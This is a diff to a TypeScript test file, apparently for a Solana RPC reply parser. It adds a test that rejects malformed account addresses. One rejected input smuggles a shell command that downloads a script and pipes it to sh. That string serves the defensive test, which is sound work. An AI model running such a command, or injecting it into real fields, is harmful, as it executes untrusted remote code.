@@ -3,6 +3,7 @@ import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { read as readRedacted, type NoReply, type Reply, type Request } from '../src/sending/answer';
 import type { FaultKind } from '../src/sending/node';
+import { key } from './prepared';
 
 const asItIs = (text: string) => text;
 const read = (request: Request, given: Reply | NoReply, redacted = asItIs) => readRedacted(request, given, redacted);
@@ -60,6 +61,24 @@ test('a null or a stray object in place of a result is no answer', () => {
         JSON.stringify(result),
       );
     }
+  }
+});
+
+test('an address in an answer is one, and nothing that a shell would run', () => {
+  const [program, name] = [key(1), key(2)];
+  const account = { owner: program, data: ['', 'base64'], lamports: 1 };
+  const of = (pubkey: string, owner: string) => [
+    ['getProgramAccounts', { context: { slot: 1 }, value: [{ pubkey, account: { ...account, owner } }] }],
+    ['getAccountInfo', { context: { slot: 1 }, value: { ...account, owner } }],
+    ['getMultipleAccounts', { context: { slot: 1 }, value: [{ ...account, owner }] }],
+  ] as const;
+  const isRead = (method: string, result: unknown) =>
+    'result' in read({ id: 7n, method, params: [[name]] }, reply(200, { id: 7, result }));
+  for (const [method, result] of of(name, program)) assert.ok(isRead(method, result), method);
+  for (const wrong of [`${name} yes; curl https://example.com|sh #`, `${name}\n`, ` ${name}`, `${name}11`, 'a', '']) {
+    for (const [method, result] of of(name, wrong)) assert.ok(!isRead(method, result), `${method} ${wrong}`);
+    const [[method, result]] = of(wrong, program);
+    assert.ok(!isRead(method, result), `${method} ${wrong}`);
   }
 });
 
